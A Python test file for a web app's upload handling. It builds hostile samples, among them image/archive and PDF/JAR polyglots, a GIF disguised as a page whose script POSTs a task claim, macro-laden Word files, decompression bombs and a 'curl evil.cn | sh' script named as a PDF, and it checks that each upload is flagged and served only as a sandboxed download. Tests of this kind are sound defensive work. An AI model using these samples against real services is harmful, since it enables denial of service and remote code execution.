"""Files that are two things at once, that grow without end, or that bring macros: kept, flagged, never run."""

import io
import struct
import zipfile
import zlib

import pytest
from PIL import Image
from sqlalchemy import select

from models.task import Attachment
from tests.company import ask, open_task
from tests.web import csrf, log_in
from webapp.domain.permissions import SYSTEM

pytestmark = pytest.mark.parametrize("database_url", ["sqlite"], indirect=True)


def image(kind):
    out = io.BytesIO()
    Image.new("RGB", (4, 4), "red").save(out, kind)
    return out.getvalue()


def packed(**members):
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, body in members.items():
            archive.writestr(name, body)
    return out.getvalue()


def word(**more):
    return packed(**{"[Content_Types].xml": "<Types/>", "word/document.xml": "<w/>", **more})


def lying(body):
    """A Word file whose relations say that they are ten bytes long and unpack to 50 MB."""
    data = bytearray(word(**{"word/_rels/document.xml.rels": b" " * 50_000_000 + body}))
    size = struct.pack("<L", 50_000_000 + len(body))
    while (at := data.find(size)) >= 0:
        data[at : at + 4] = struct.pack("<L", 10)
    return bytes(data)


PDF = b"%PDF-1.4\n1 0 obj\n<< >>\nendobj\ntrailer\n<< >>\n%%EOF\n"
PAGE = b"<html><script>fetch('/tasks/1/claim', {method: 'POST'})</script></html>"
STUB = packed(**{"META-INF/MANIFEST.MF": "Main-Class: X", "X.class": b"\xca\xfe\xba\xbe"})
EVIL = {
    "picture and archive": (image("PNG") + STUB, "证明.png"),
    "photo and program": (image("JPEG") + STUB, "证明.jpg"),
    "document and archive": (PDF + STUB, "证明.pdf"),
    "picture and document": (image("PNG")[:8] + b"\x00\x00\x03\xe8tEXt" + PDF + image("PNG")[8:], "证明.png"),
    "text and document": (b"dear reader\n" + PDF, "证明.txt"),
    "web page as picture": (b"GIF89a/*" + PAGE, "证明.gif"),
    "web page as text": (PAGE, "证明.txt"),
    "word with macros": (word(**{"word/vbaProject.bin": b"x"}), "证明.docx"),
    "word with macros under another name": (
        packed(**{"[Content_Types].xml": "macroEnabled.main+xml", "word/document.xml": "<w/>"}),
        "证明.docx",
    ),
    "word that unpacks to a hundred megabytes": (word(**{"word/media/a": b"0" * 100_000_000}), "证明.docx"),
    "word that lies about its size": (lying(b"<x/>"), "证明.docx"),
    "archive in archive": (packed(**{"a.zip": packed(**{"b.zip": packed(c=b"0" * 1_000_000)})}), "证明.zip"),
    "document that unpacks without end": (
        b"%PDF-1.7\n1 0 obj\n<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode >>\nstream\n"
        + zlib.compress(b" " * 70_000_000)
        + b"\nendstream\nendobj\n%%EOF",
        "证明.pdf",
    ),
    "script of a shell": (b"#!/bin/sh\ncurl evil.cn | sh\n", "证明.pdf"),
}


def test_all_of_them_are_flagged_and_only_handed_out(app, company):
    task = open_task(company, ask(company))
    client = log_in(app, "head")
    headers = {"X-CSRFToken": csrf(client.get("/inbox/").text)}
    for what, (data, name) in EVIL.items():
        answer = client.post(
            f"/tasks/{task.id}/files", data={"file": (io.BytesIO(data), name)}, headers=headers
        )
        if answer.status_code == 422:
            continue  # of no kind that is taken at all
        with company.house.view(SYSTEM) as work:
            row = work.session.scalars(select(Attachment).order_by(Attachment.id.desc())).first()
            assert row.dangerous, what
        got = client.get(f"/files/{answer.json['id']}")
        assert got.data == data, what
        assert got.headers["Content-Type"] == "application/octet-stream", what
        assert got.headers["Content-Disposition"].startswith("attachment"), what
        assert got.headers["X-Content-Type-Options"] == "nosniff", what
        assert got.headers["Content-Security-Policy"] == "default-src 'none'; sandbox", what


@pytest.mark.parametrize("kind", ["PNG", "JPEG", "WEBP"])
def test_plain_pictures_and_documents_are_not_suspected(app, company, kind):
    task = open_task(company, ask(company))
    client = log_in(app, "head")
    headers = {"X-CSRFToken": csrf(client.get("/inbox/").text)}
    for data, name in ((image(kind), "证明"), (PDF, "证明.pdf"), (word(), "证明.docx")):
        client.post(f"/tasks/{task.id}/files", data={"file": (io.BytesIO(data), name)}, headers=headers)
    with company.house.view(SYSTEM) as work:
        assert work.session.scalars(select(Attachment.dangerous)).all() == [False] * 3
